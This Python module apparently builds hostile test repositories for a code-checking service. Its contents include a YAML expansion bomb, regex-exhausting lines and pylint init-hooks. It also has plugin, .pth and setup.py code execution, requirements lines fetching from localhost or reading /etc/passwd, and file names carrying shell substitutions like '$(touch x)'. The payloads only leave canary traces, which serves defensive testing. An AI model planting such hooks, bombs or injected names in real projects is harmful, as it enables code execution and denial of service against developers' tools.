"""The repositories of cases 24 to 38: what hostile, or odd, source code and settings look like.

Each function writes one below a folder: an honest little project with mistakes for every
tool, and what the case adds. What must never run leaves its name in `canary(folder)`.
"""

import json
from collections.abc import Mapping
from pathlib import Path

KIBIBYTE = 1024
MEBIBYTE = 1024 * KIBIBYTE

# In two pieces, so that it is no finding in our own code.
KEY = "AKIA" + "Q3EGRZ5KW2MLOPS7"

CLEAN = '''\
"""Sums."""


def add(first, second):
    """Return the sum; never negative."""
    total = first + second
    if total < 0:
        return 0
    return total
'''
# Something for each tool to find.
MESSY = f"""\
import sys
import os
from src.calc import add
import logging

KEY = "{KEY}"
def mean( numbers ):
    logging.info("mean of %d numbers" % len(numbers))
    return add(sum(numbers), 0)/len(numbers)
"""
HONEST: Mapping[str, str] = {
    "README.md": "# Sums\n",
    "src/__init__.py": '"""Sums."""\n',
    "src/calc.py": CLEAN,
    "src/mean.py": MESSY,
    "tests/test_calc.py": "from src.calc import add\n\n\ndef test_sum():\n"
    "    assert add(1, 2) == 3\n",
}
# What these files hold is not looked at by Python's parser alone.
MODULE = '"""A module."""\n\n'


def canary(folder: Path) -> Path:
    """Where code that ran leaves its trace; the file isn't there as long as none did."""
    return folder.with_name(f"{folder.name}-canary")


def honest(folder: Path) -> None:
    """The project that every case adds to."""
    write(folder, HONEST)


def write(folder: Path, files: Mapping[str, str | bytes]) -> None:
    """Write files below a folder, by their paths."""
    for path, content in files.items():
        file = folder / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content if isinstance(content, bytes) else content.encode())


def case_24(folder: Path) -> None:
    """NUL bytes."""
    honest(folder)
    write(folder, {"src/nul.py": "x = 1\0\n", "src/nul_comment.py": "# \0\nx = 1\n"})


def case_25(folder: Path) -> None:
    """Encodings: wrong ones, right ones, some that no codec of Python's can end with."""
    honest(folder)
    text = MODULE + 'NAME = "é"\n'
    write(
        folder,
        {
            "src/utf16.py": text.encode("utf-16"),
            "src/utf16_without_mark.py": text.encode("utf-16-le"),
            "src/latin1.py": text.encode("latin-1"),
            "src/latin1_named.py": f"# coding: latin-1\n{text}".encode("latin-1"),
            "src/nonsense.py": f"# coding: nonsense\n{text}",
            "src/no_text.py": f"# coding: hex\n{MODULE}",
            "src/undefined.py": f"# coding: undefined\n{MODULE}",
            "src/punycode.py": f"# coding: punycode\n{MODULE}",
            # Its decoder takes the square of this.
            "src/idna.py": "# coding: idna\n" + ("# " + "ä" * 4_000 + "\n") * 80,
            "src/marked.py": f"\ufeff{MODULE}",
            "src/surrogates.py": MODULE + 'X = "\\ud800"\nY = "%s \\udfff" % X\n',
            "src/form_feed.py": MODULE + "\x0c\nX = 1\n",
        },
    )


# Python reads these; one tool or another doesn't.
DEEP: Mapping[str, str] = {
    "src/sum_400.py": MODULE + "X = (\n" + ("    1 +\n" * 400) + "    1\n)\n",
    "src/minus_900.py": MODULE + "X = " + "-" * 900 + "1\n",
    "src/elif_300.py": MODULE
    + "X = 1\nif X == 0:\n    X = 2\n"
    + "".join(f"elif X == {i}:\n    X = {i}\n" for i in range(1, 300)),
}
# Python's own parser refuses these, or gives up on them.
TOO_DEEP: Mapping[str, str] = {
    "src/sum_20000.py": MODULE + "X = (\n" + ("    1 +\n" * 20_000) + "    1\n)\n",
    "src/minus_5000.py": MODULE + "X = " + "-" * 5_000 + "1\n",
    "src/parentheses.py": MODULE + "X = (\n" + ("(" * 50 + "\n") * 100 + "1\n",
}


def case_26(folder: Path) -> None:
    """Expressions that are nested too deeply, for Python or for a tool."""
    honest(folder)
    write(folder, {**DEEP, **TOO_DEEP})


def case_27(folder: Path) -> None:
    """Files and lines that are too large, or that would become so when they are read."""
    honest(folder)
    write(
        folder,
        {
            "src/long_line.py": f"X = '{'a' * 3 * MEBIBYTE}'\n",
            "src/longish_line.py": f"X = '{'a' * 20_000}'\n",
            "src/large.py": b"# nothing here\n" * (50 * MEBIBYTE // 15),
            # As a syntax tree this is 900 MB, the next takes Python's parser 30 s, and
            # the third as long, to bring the names into their normal form.
            "src/dense.py": ("x;" * 4_000 + "\n") * 120,
            "src/fields.py": "X = f'''\n" + ("{1}" * 3_000 + "\n") * 100 + "'''\n",
            "src/marks.py": ("a" + "\u0300" * 2_400 + "\u0316" * 2_400 + "\n") * 20,
        },
    )


def case_28(folder: Path) -> None:
    """Expressions that nobody should evaluate."""
    honest(folder)
    write(
        folder,
        {
            "src/huge.py": MODULE
            + "A = 'a' * 10**10\nB = 10**10**10\nC = [0] * 10**10\nD = 1 << 10**10\n"
            "E = '%9999999999d' % 1\nF = f'{1:9999999999}'\n"
            "G = '{:9999999999}'.format(1)\nprint(A.upper(), C[0].real, F.strip())\n",
        },
    )


def case_29(folder: Path, lines: int = 3) -> None:
    """All of it in one repository."""
    case_29_text(folder, lines)
    case_29_formats(folder)
    case_29_bomb(folder)


def case_29_text(folder: Path, lines: int = 3) -> None:
    """Text hostile to regular expressions.

    So many lines of each kind in a file: a line costs a tool up to a second.
    """
    honest(folder)
    kinds = {
        "spaces": " " * 9_000 + "x",
        "equals": "password" + " = " * 3_000,
        "quotes": "'\"" * 4_500,
        "base64": "A" * 9_000 + "!",
        "colons": "://" + "a:" * 4_000 + "@",
        "paths": '"' + "/a" * 4_000 + "\\" * 1_000,
        "noqa": "# noqa" + ": E" * 2_900,
        "percent": "%(" * 4_500,
    }
    write(
        folder,
        {
            **{f"data/{name}.txt": f"{line}\n" * lines for name, line in kinds.items()},
            "data/spaces.txt": (kinds["spaces"] + "\n") * lines * 5,
            **{f"src/{name}.py": f"# {line}\n" * lines for name, line in kinds.items()},
        },
    )


def case_29_formats(folder: Path) -> None:
    """Formats that a tool reads, nested deeply, and a date that there isn't."""
    honest(folder)
    write(
        folder,
        {
            "config/deep.yaml": "[" * 5_000 + "]" * 5_000,
            "config/date.yaml": f"key: {KEY}\nday: 2024-13-45\n",
            "config/deep.json": "[" * 100_000 + "]" * 100_000,
            "config/deep.ini": "[a]\n" + ("b = c\n d\n" * 1_000),
        },
    )


def case_29_bomb(folder: Path) -> None:
    """YAML that grows when it is read, to more than any machine has."""
    honest(folder)
    bomb = ["a: &a [1, 1, 1, 1, 1, 1, 1, 1, 1]\n"]
    names = "abcdefghijklmnop"
    for before, name in zip(names, names[1:], strict=False):
        bomb.append(f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n")
    write(folder, {"config/bomb.yaml": "".join(bomb)})


def _trace(folder: Path, name: str) -> str:
    return f"open({str(canary(folder))!r}, 'a').write('{name} ')"


def case_30(folder: Path) -> None:
    """pylint settings that run code and load plugins."""
    honest(folder)
    hook = _trace(folder, "init-hook")
    write(
        folder,
        {
            ".pylintrc": f"[MAIN]\ninit-hook={hook}\nignore-patterns=.*\n",
            "pylintrc": f"[MAIN]\ninit-hook={hook}\nload-plugins=evil_plugin\n",
            "pyproject.toml": '[tool.pylint.main]\nload-plugins = ["evil_plugin"]\n'
            f"init-hook = {json.dumps(hook)}\ndisable = ['all']\n",
            "setup.cfg": f"[pylint.MAIN]\nload-plugins=evil_plugin\ninit-hook={hook}\n",
            "evil_plugin.py": _trace(folder, "load-plugins") + "\n",
        },
    )


def case_31(folder: Path) -> None:
    """Modules called as what the tools import, or as the tools themselves."""
    honest(folder)
    late = "isort csv email dill tomlkit colorama json logging ast tokenize typing re"
    tools = "black flake8 pyflakes pycodestyle mccabe pylint astroid radon pydocstyle"
    names = f"{late} {tools} detect_secrets yaml sitecustomize usercustomize".split()
    write(
        folder,
        {
            f"{place}{name}.py": _trace(folder, name) + "\nraise SystemExit(0)\n"
            for place in ("", "src/")
            for name in names
        },
    )
    write(
        folder,
        {
            "evil-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: evil\n",
            "evil-1.0.dist-info/entry_points.txt": "[flake8.extension]\nX = evil:P\n",
            "evil.py": _trace(folder, "evil") + "\n",
            "evil.pth": "import evil\n",
        },
    )


def case_32(folder: Path) -> None:
    """flake8's local plugins."""
    honest(folder)
    settings = (
        "[flake8]\nrequire-plugins = evil\n[flake8:local-plugins]\npaths = .\n"
        "extension =\n    X = evil:Plugin\nreport =\n    evil = evil:Plugin\n"
    )
    evil = _trace(folder, "local-plugins") + "\n\n\nclass Plugin:\n    pass\n"
    files = dict.fromkeys((".flake8", "setup.cfg", "tox.ini"), settings)
    write(folder, {**files, "evil.py": evil, "src/evil.py": evil})


def case_33(folder: Path) -> None:
    """Settings, and a .gitignore, that exclude everything."""
    honest(folder)
    write(
        folder,
        {
            ".gitignore": "*\n!.gitignore\n",
            "pyproject.toml": "[tool.black]\nforce-exclude = '.*'\nexclude = '.*'\n"
            "[tool.isort]\nskip_glob = ['*']\nskip_gitignore = true\n"
            "[tool.pylint.main]\nignore-patterns = ['.*']\n"
            "[tool.pydocstyle]\nmatch = 'nothing'\n[tool.radon]\nexclude = '*'\n",
            ".flake8": "[flake8]\nexclude = *\nselect = X\n",
            "setup.cfg": "[flake8]\nexclude = *\n[isort]\nskip_glob = *\n"
            "[pydocstyle]\nmatch = nothing\n[radon]\nexclude = *\n[pylint]\n"
            "ignore-patterns = .*\n",
            "tox.ini": "[flake8]\nexclude = *\n[pydocstyle]\nmatch = nothing\n"
            "[isort]\nskip_glob = *\n",
            "radon.cfg": "[radon]\nexclude = *\nignore = *\ncc_min = F\n",
            ".isort.cfg": "[settings]\nskip_glob = *\n",
            ".pydocstyle": "[pydocstyle]\nmatch = nothing\n",
            ".pylintrc": "[MAIN]\nignore-patterns=.*\n",
            ".editorconfig": "root = true\n[*]\nskip_glob = *\n",
            "src/radon.cfg": "[radon]\nexclude = *\n",
            "src/.pydocstyle": "[pydocstyle]\nmatch = nothing\n",
        },
    )


# What keeps a tool from looking, by the check whose tool it is.
SWITCHES: Mapping[str, str] = {
    "src/no_black.py": f"# fmt: off\n{MESSY}",
    "src/no_isort.py": f"# isort: skip_file\n{MESSY}",
    "src/no_flake8.py": f"# flake8: noqa\n{MESSY}",
    "src/no_pylint.py": f"# pylint: skip-file\n{MESSY}",
    "src/no_secrets.py": f'KEY = "{KEY}"  # pragma: allowlist secret\n',
}


def case_34(folder: Path) -> None:
    """Comments that keep a tool from looking at a file, or at a secret."""
    honest(folder)
    write(folder, SWITCHES)


def case_35(folder: Path) -> None:
    """Settings that can't be read, or that ask for another version of a tool."""
    honest(folder)
    write(
        folder,
        {
            "pyproject.toml": "[tool.black]\nline-length = 9\n[tool.isort\n",
            "src/pyproject.toml": "[tool.black\n",
            "setup.cfg": "[flake8\nexclude = \n[pydocstyle]\nselect = D1\n"
            "[pydocstyle]\n\x00",
            "tox.ini": b"[flake8]\nselect = \xff\xfe\n",
            ".pylintrc": "[MAIN]\nload-plugins=\x00\n[MAIN]\n%(x)s = %(y)s\n",
            "radon.cfg": "cc_min = F\n",
            ".isort.cfg": "[settings]\nprofile = no-such-profile\n",
        },
    )


def case_35_required_version(folder: Path) -> None:
    """A version of black that nobody has."""
    honest(folder)
    text = "[tool.black]\nrequired-version = '1'\nforce-exclude = '.*'\n"
    write(folder, {"pyproject.toml": text, "src/pyproject.toml": text})


def case_36(folder: Path) -> None:
    """A baseline that loads a plugin and calls every secret known."""
    honest(folder)
    known = {"type": "AWS Access Key", "filename": "src/mean.py", "line_number": 6}
    baseline = {
        "version": "1.5.0",
        "plugins_used": [{"name": "Evil", "path": "file://evil.py"}],
        "filters_used": [{"path": "file://evil.py::hides"}],
        "results": {"src/mean.py": [{**known, "hashed_secret": "0" * 40}]},
    }
    code = _trace(folder, "baseline") + "\n\n\nclass Evil:\n    pass\n"
    write(folder, {".secrets.baseline": json.dumps(baseline), "evil.py": code})


def case_37(folder: Path) -> None:
    """No Python at all, only a notebook."""
    notebook = {"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    write(folder, {"analysis.ipynb": json.dumps(notebook), "README.md": "# Sums\n"})


def case_37_empty_files(folder: Path) -> None:
    """Python files with not one character in them."""
    write(folder, dict.fromkeys(("src/__init__.py", "src/calc.py", "tests/t.py"), ""))


def case_38(folder: Path) -> None:
    """Manifests that would fetch and run code."""
    honest(folder)
    trace = _trace(folder, "setup.py")
    write(
        folder,
        {
            "requirements.txt": "--extra-index-url http://127.0.0.1:9/simple\n"
            "-e git+https://127.0.0.1:9/evil.git#egg=evil\n-e .\n"
            "evil @ http://127.0.0.1:9/evil.whl\n-r /etc/passwd\n"
            "-r ../../../../etc/passwd\n--trusted-host 127.0.0.1\nsix\n",
            "setup.py": f"from setuptools import setup\n{trace}\n"
            "setup(name='evil', install_requires=['six'])\n",
            "pyproject.toml": "[build-system]\nrequires = []\n"
            "build-backend = 'backend'\nbackend-path = ['.']\n",
            "backend.py": f"{trace}\n",
            "environment.yml": "dependencies:\n  - python=3.11\n  - pip:\n"
            "    - git+https://127.0.0.1:9/evil.git\n",
        },
    )


# Case 16: names that a shell or a tool may take for something else.
NAMES = (
    "-rf.py",
    "--init-hook=raise SystemExit.py",
    "--help.py",
    "@file.py",
    "$(touch x).py",
    "[a].py",
    "a;b.py",
    "src/@file.py",
    "src/-rf.py",
    "src/--rcfile=x.py",
    "src/*.py",
    "src/$(touch x).py",
    "src/`touch x`.py",
    "src/'\".py",
    "src/ .py",
)


def case_16(folder: Path) -> None:
    """File names that look like options, argument files and shell commands."""
    honest(folder)
    write(folder, dict.fromkeys(NAMES, MESSY))
    write(folder, {"file": "--help\n", "file.py": CLEAN})
